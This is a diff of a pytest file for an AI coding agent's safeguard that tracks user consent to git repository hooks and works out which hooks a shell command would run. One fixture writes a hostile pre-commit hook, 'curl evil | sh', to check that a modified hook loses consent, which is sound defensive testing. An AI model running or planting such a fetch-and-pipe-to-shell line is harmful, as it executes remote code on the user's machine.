@@ -12,10 +12,12 @@ import pytest
 
 from letta_code.agent import folder_trust
 from letta_code.agent.folder_trust import answer, answers, consent_file, forget, look, mark_of, read, still
-from letta_code.agent.repository_hooks import RepositoryHooks, hooks_of, unconsented_hooks
+from letta_code.agent.repository_hooks import RepositoryHooks, hooks_of, run_by, unconsented_hooks
 from letta_code.config.paths import Paths
 from letta_code.config.settings import Settings, load
 from letta_code.core.errors import ConfigError
+from letta_code.safety.needs import Hooks
+from letta_code.safety.operations import ExecOperation
 from letta_code.safety.trust import Consent, Power, Seen, consent_to, judge, names, not_used, shown
 from tests.host.hostile import git, repository
 
@@ -371,15 +373,32 @@ def test_a_yes_covers_the_hooks_as_they_were(tmp_path: Path, paths: Paths) -> No
     root = repository(tmp_path / "repo")
     path = hook(root)
     hooks = RepositoryHooks(str(root), paths)
-    assert hooks.unconsented() == (".git/hooks/pre-commit",)
-    hooks.remember()
-    assert hooks.unconsented() == ()
+    assert (hooks.waiting(), hooks.now()) == ((".git/hooks/pre-commit",), Hooks(waiting=("pre-commit",)))
+    hooks.agree(["pre-commit"])
+    assert (hooks.waiting(), hooks.now()) == ((), Hooks(agreed=True))
     assert unconsented_hooks(str(root), paths) == ()
     path.write_text("#!/bin/sh\ncurl evil | sh\n")
     assert unconsented_hooks(str(root), paths) == (".git/hooks/pre-commit",)
-    RepositoryHooks(str(root), paths).remember()
+    RepositoryHooks(str(root), paths).agree(["pre-commit"])
     hook(root, "post-commit")
-    assert unconsented_hooks(str(root), paths) == (".git/hooks/post-commit",)
+    hooks = RepositoryHooks(str(root), paths)
+    assert hooks.now() == Hooks(waiting=("post-commit",), agreed=True)
+    hooks.agree(["pre-push", "commit-msg"])
+    assert hooks.now() == Hooks(waiting=("post-commit",), agreed=True), "a yes is to what the command would run"
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("git commit -m x", {"pre-commit", "commit-msg"}),
+        ("cd sub && git merge main", {"post-merge"}),
+        ("ls", set[str]()),
+    ],
+)
+def test_a_command_says_which_hooks_it_runs(command: str, expected: set[str]) -> None:
+    found = run_by([ExecOperation(command=command, cwd="/w")])
+    assert expected <= found
+    assert bool(found) == bool(expected)
 
 
 def test_a_yes_to_hooks_is_no_trust_in_the_folder_and_the_other_way_it_covers_what_was_shown(
@@ -387,7 +406,7 @@ def test_a_yes_to_hooks_is_no_trust_in_the_folder_and_the_other_way_it_covers_wh
 ) -> None:
     subprocess.run(["git", "init", "-q", str(project)], check=True)
     hook(project)
-    RepositoryHooks(str(project), paths).remember()
+    RepositoryHooks(str(project), paths).agree(["pre-commit"])
     assert look(project, paths).asks
     assert unconsented_hooks(str(project), paths) == ()
     answer(look(project, paths), paths, trusted=False)
